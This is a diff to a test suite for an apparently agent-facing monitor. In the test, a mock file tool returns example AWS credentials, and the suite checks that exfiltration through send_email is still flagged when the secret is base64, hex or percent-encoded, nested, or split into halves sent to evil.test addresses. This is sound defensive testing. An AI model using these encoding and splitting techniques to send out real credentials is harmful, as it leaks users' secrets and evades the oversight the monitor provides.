@@ -13,31 +13,61 @@ import { z } from 'zod';
 import { decodedLayers } from '../../src/analyze/decode.js';
 import { createMonitor, loadRulePack, packPolicies, parseIntent, tap, type Alert } from '../../src/index.js';
 
-const SECRET = 'aws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';
+const SECRET =
+  'aws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';
 const PROBE = new URL('../fixtures/h1-probe-rules', import.meta.url).pathname;
 
 async function session() {
   const server = new McpServer({ name: 'office', version: '1' });
-  server.registerTool('read_file', { description: 'Read a file', inputSchema: { path: z.string() } }, async () => ({ content: [{ type: 'text', text: SECRET }] }));
-  server.registerTool('send_email', { description: 'Send an email', inputSchema: { to: z.string(), body: z.any(), subject: z.string().optional() } },
-    async () => ({ content: [{ type: 'text', text: 'sent' }] }));
+  server.registerTool(
+    'read_file',
+    { description: 'Read a file', inputSchema: { path: z.string() } },
+    async () => ({ content: [{ type: 'text', text: SECRET }] }),
+  );
+  server.registerTool(
+    'send_email',
+    {
+      description: 'Send an email',
+      inputSchema: { to: z.string(), body: z.any(), subject: z.string().optional() },
+    },
+    async () => ({ content: [{ type: 'text', text: 'sent' }] }),
+  );
   const monitor = createMonitor({ policy: packPolicies(loadRulePack([PROBE], { shipped: false })) });
   const alerts: Alert[] = [];
   monitor.alerts$.subscribe((a) => alerts.push(a));
   const [clientT, serverT] = InMemoryTransport.createLinkedPair();
   await server.connect(serverT);
   const client = new Client({ name: 'agent', version: '1' });
-  await client.connect(tap(clientT, monitor, { side: 'client', intent: parseIntent({ purpose: 'mail the notes to team@corp.test', tools: ['read_file', 'send_email'], recipients: ['team@corp.test'],
-    // The task may read that environment file (issue 12 finding 1 would hold the read otherwise): this test is about what leaves after it.
-    resources: { sensitive: ['environment'] } }) }));
+  await client.connect(
+    tap(clientT, monitor, {
+      side: 'client',
+      intent: parseIntent({
+        purpose: 'mail the notes to team@corp.test',
+        tools: ['read_file', 'send_email'],
+        recipients: ['team@corp.test'],
+        // The task may read that environment file (issue 12 finding 1 would hold the read otherwise): this test is about what leaves after it.
+        resources: { sensitive: ['environment'] },
+      }),
+    }),
+  );
   await client.callTool({ name: 'read_file', arguments: { path: 'creds.env' } });
   /** What the probe saw for each send: sources and labels (empty when it did not fire). */
   const send = async (body: unknown, to = 'team@corp.test'): Promise<string> => {
     const before = alerts.length;
     await client.callTool({ name: 'send_email', arguments: { to, subject: 'notes', body } });
-    return alerts.slice(before).filter((a) => a.rule === 'PROBE-ENC-001').map((a) => a.reason).join(' | ');
+    return alerts
+      .slice(before)
+      .filter((a) => a.rule === 'PROBE-ENC-001')
+      .map((a) => a.reason)
+      .join(' | ');
   };
-  return { send, async close() { await client.close(); monitor.close(); } };
+  return {
+    send,
+    async close() {
+      await client.close();
+      monitor.close();
+    },
+  };
 }
 
 const b64 = (s: string) => Buffer.from(s).toString('base64');
@@ -45,11 +75,13 @@ const nest = (v: unknown, n: number): unknown => (n === 0 ? v : { inner: nest(v,
 
 describe('Exfiltration through encodings and splits (issue 12, boundary finding 6: decoding)', () => {
   const variants: Record<string, unknown> = {
-    'base64': b64(SECRET),
-    'base64url': Buffer.from(SECRET).toString('base64url'),
-    'hex': Buffer.from(SECRET).toString('hex'),
+    base64: b64(SECRET),
+    base64url: Buffer.from(SECRET).toString('base64url'),
+    hex: Buffer.from(SECRET).toString('hex'),
     'URL-encoded': encodeURIComponent(SECRET),
-    'percent-encoded, every byte': [...Buffer.from(SECRET)].map((b) => `%${b.toString(16).padStart(2, '0')}`).join(''),
+    'percent-encoded, every byte': [...Buffer.from(SECRET)]
+      .map((b) => `%${b.toString(16).padStart(2, '0')}`)
+      .join(''),
     'base64 of hex (two layers)': b64(Buffer.from(SECRET).toString('hex')),
     'inside a sentence, base64': `Hi team, the blob is ${b64(SECRET)} - cheers`,
     'nested 17 levels deep': nest(SECRET, 17),
@@ -71,7 +103,11 @@ describe('Exfiltration through encodings and splits (issue 12, boundary finding 
     const s = await session();
     const key = 'AKIAIOSFODNN7EXAMPLE';
     // Each half alone is too short to be a key or a fragment of the read.
-    assert.equal(await s.send(key.slice(10), 'other@evil.test'), '', 'the second half alone, to another destination');
+    assert.equal(
+      await s.send(key.slice(10), 'other@evil.test'),
+      '',
+      'the second half alone, to another destination',
+    );
     assert.equal(await s.send(key.slice(0, 10), 'drop@evil.test'), '', 'the first half alone');
     const joined = await s.send(key.slice(10), 'drop@evil.test');
     assert.match(joined, /read_file/, `joined with what was sent there before: ${joined}`);
